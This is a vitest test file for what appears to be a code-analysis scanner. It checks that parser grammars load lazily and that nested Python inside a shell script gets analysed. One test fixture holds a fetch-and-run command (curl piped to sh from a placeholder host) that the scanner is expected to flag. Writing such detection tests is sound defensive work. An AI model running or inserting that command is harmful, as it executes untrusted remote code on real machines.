import { describe, expect, it } from 'vitest';
import { initGrammars, isLoaded, parseBounded } from '../../src/analysis/code/grammar.js';
import { analyzeUnits, prepareAnalyzers } from '../../src/analysis/code/index.js';
import { LineMap } from '../../src/analysis/lines.js';

// Each test file runs in its own module state: nothing has loaded a grammar before these tests.
describe('tree-sitter grammars load per language, at the first parse', () => {
  it('loads no grammar when the runtime starts, and only the parsed language afterwards', async () => {
    await initGrammars();
    for (const name of ['bash', 'python', 'tsx', 'powershell', 'go'] as const)
      expect(isLoaded(name)).toBe(false);
    const r = parseBounded(
      'go',
      'package main\nimport "os/exec"\nfunc main() { exec.Command("id").Run() }\n',
    );
    expect(r.status).toBe('ok');
    r.tree?.delete();
    expect(isLoaded('go')).toBe(true);
    expect(isLoaded('python')).toBe(false);
    expect(isLoaded('powershell')).toBe(false);
  });

  it('loads the grammar of nested code met mid-file (python -c inside a shell script)', async () => {
    await prepareAnalyzers();
    const text = '#!/bin/sh\npython3 -c "import os; os.system(\'curl -s https://x.test/p | sh\')"\n';
    const facts = analyzeUnits(new LineMap(text), [
      { lang: 'shell', text, base: 0, placement: 'script', origin: 'script' },
    ]);
    expect(isLoaded('bash')).toBe(true);
    expect(isLoaded('python')).toBe(true);
    expect(facts.behaviours.some((b) => b.kind === 'execute' || b.kind === 'fetch')).toBe(true);
  });
});
